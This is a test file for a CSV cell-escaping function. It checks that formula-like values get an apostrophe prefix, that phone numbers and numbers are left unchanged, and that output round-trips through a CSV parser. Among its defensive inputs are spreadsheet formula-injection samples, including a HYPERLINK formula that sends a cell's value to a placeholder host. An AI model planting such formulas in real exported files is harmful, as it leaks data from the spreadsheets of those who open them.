import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { csvCell, csvLine } from './csv';

it.each([
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://x.invalid/?"&A1,"open")', `"'=HYPERLINK(""http://x.invalid/?""&A1,""open"")"`],
  ['+cmd', "'+cmd"],
  ['+1+1', "'+1+1"],
  ['+49-30-123', "'+49-30-123"],
  ['+49 - 30 - 123', "'+49 - 30 - 123"],
  ['+49 -30', "'+49 -30"],
  ['-cmd', "'-cmd"],
  ['-1+1', "'-1+1"],
  ['--1', "'--1"],
  ['@sum', "'@sum"],
  ['\tx', "'\tx"],
  ['\r=1', '"\'\r=1"'],
  ['＝1+1', "'＝1+1"],
  ['=a,b', '"\'=a,b"'],
])('defuses %j', (value, cell) => {
  expect(csvCell(value)).toBe(cell);
});

it.each([
  ['+49 30 123456', '+49 30 123456'],
  ['+4930123456', '+4930123456'],
  ['+86 (0)21 6000-0000', '+86 (0)21 6000-0000'],
  ['-12.50', '-12.50'],
  ['-0,5', '"-0,5"'],
  ['+3', '+3'],
  ['-1e-7', '-1e-7'],
  ['-', '-'],
  [-3, '-3'],
  [-1e-7, '-1e-7'],
  [true, 'true'],
  [null, ''],
  [undefined, ''],
  ['a=b', 'a=b'],
  ['a,b', '"a,b"'],
  ['say "hi"', '"say ""hi"""'],
  ['two\nlines', '"two\nlines"'],
  ['张三', '张三'],
])('leaves %j as it is', (value, cell) => {
  expect(csvCell(value)).toBe(cell);
});

it('puts no list and no object into a cell', () => {
  expect(() => csvCell([1])).toThrow(TypeError);
  expect(() => csvCell({})).toThrow(TypeError);
});

const anyText = fc.oneof(
  fc.string(),
  fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '1', ' ', ',', '"', '\r', '\n', '\t', 'a', '＝', '张') }),
);

it('is read again by csv-parse as it was, but for the apostrophe before what could run', () => {
  fc.assert(
    fc.property(fc.array(fc.tuple(anyText, anyText), { minLength: 1 }), (rows) => {
      const read = parse(rows.map((row) => csvLine([...row, 'end'])).join('')) as readonly (readonly string[])[];
      const plain = (text: string): string => (text.startsWith("'") ? text.slice(1) : text);
      expect(read.map((row) => row.map(plain))).toEqual(rows.map((row) => [...row, 'end'].map(plain)));
      const numberOrPhone = /^[+-]?[\d., ()/e%-]*$/i;
      for (const cell of read.flat()) if (/^[=+\-@\t\r\n＝＋－＠]/.test(cell)) expect(cell).toMatch(numberOrPhone);
    }),
  );
});
